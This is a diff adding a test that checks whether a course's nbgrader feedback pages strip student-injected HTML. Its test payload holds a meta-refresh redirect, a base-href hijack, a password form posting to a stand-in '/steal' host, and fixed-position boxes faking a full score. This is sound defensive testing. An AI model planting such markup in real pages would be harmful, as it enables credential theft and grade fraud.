@@ -398,3 +398,63 @@ def test_lab4_activation_and_loss_exercises_are_each_titled_by_their_own_functio
     assert titles["test_Dense"] == "Exercise C1 — The dense layer"  # alone under its heading: the heading alone
     assert titles["reflect_gates"] == "Reflection: Question 1 (gates)"  # its lead is in the heading's own cell
     assert titles["reflect_old_weights"] == "Reflection: Question 2 (one step, old weights)"
+
+
+# A student's HTML that would take the reader elsewhere (a refresh, a base for the page's links, a form that sends
+# what is typed) or cover the page's scores with a score of its own (a fixed box: by a style, by one of Bootstrap's
+# classes, by a formula's style)
+LEAVES_OR_COVERS = (
+    '<meta http-equiv="refresh" content="1; url=http://127.0.0.1:8765/x">'
+    '<base href="http://127.0.0.1:8765/">'
+    '<form action="http://127.0.0.1:8765/steal" method="post"><input name="password"><textarea></textarea>'
+    '<select><option>a</option></select><button>Send</button></form>'
+    '<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%; background: white">Score: 21 / 21</div>'
+    '<div style="position:absolute;top:0">Score: 21 / 21</div><span style="position: sticky">21</span>'
+    '<div class="navbar-fixed-top">Score: 21 / 21</div>')
+FORMULAS = r"The cost is $\style{position: fixed; top: 0}{21}$, or $$\frac{1}{N}\sum_i x_i$$"
+
+
+def feedback_html(nb) -> str:
+    """``nb``'s feedback page as nbgrader's feedback step renders it with the course's configuration (its summary
+    empty: the page's own parts are tested above)."""
+    from nbgrader.converters import GenerateFeedback
+    config = KIT.config()
+    converter = GenerateFeedback(coursedir=KIT.coursedir(config), config=config)
+    exporter = converter.exporter_class(parent=converter, config=converter.config)
+    html, _ = exporter.from_notebook_node(nb, resources={"summary": [], "nbgrader": {
+        "notebook": LAB, "assignment": LAB, "student": "mallory", "score": 0, "max_score": 21}})
+    return html
+
+
+class Elements(HTMLParser):
+    """The tags of a page's body, with their attributes."""
+
+    def __init__(self):
+        super().__init__()
+        self.found = []
+
+    def handle_starttag(self, tag, attrs):
+        self.found.append((tag, dict(attrs)))
+
+
+def test_a_students_html_on_the_page_neither_leaves_it_nor_covers_its_scores():
+    """Before, a refresh in a student's Markdown had the browser that opened the page from disk open another one, a
+    form sent what was typed in it elsewhere, and a box fixed over the page showed a score of the student's choice."""
+    from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output
+    shown = new_output("display_data", {"text/html": LEAVES_OR_COVERS, "text/plain": "<HTML>"})
+    written = new_markdown_cell(f"My answer. {LEAVES_OR_COVERS}", metadata={"nbgrader": {
+        "grade": True, "solution": True, "grade_id": "reflect", "points": 2, "score": 0}})
+    html = feedback_html(new_notebook(cells=[new_markdown_cell(f"My notes {LEAVES_OR_COVERS}\n\n{FORMULAS}"), written,
+                                             new_code_cell("show()", outputs=[shown])]))
+    policy = re.search(r'<meta content="([^"]*)" http-equiv="Content-Security-Policy"', html).group(1)
+    assert "form-action 'none'" in policy and "base-uri 'none'" in policy  # a form or <base> left would do nothing
+    body = html[html.index("<body"):]
+    parser = Elements()
+    parser.feed(body)
+    tags = {tag for tag, _ in parser.found}
+    assert not tags & {"meta", "base", "form", "input", "textarea", "select", "button"}, tags
+    styles = [attrs["style"] for _, attrs in parser.found if "style" in attrs]
+    assert not [style for style in styles if re.search(r"position\s*:\s*(fixed|absolute|sticky)", style)], styles
+    assert "navbar-fixed-top" not in body and "127.0.0.1" not in body
+    assert body.count("My notes") == 1 and body.count("My answer.") == 1 and body.count("Score: 21 / 21") == 9
+    assert {"math", "mfrac", "munder", "msub"} <= tags  # formulas still shown, as MathML
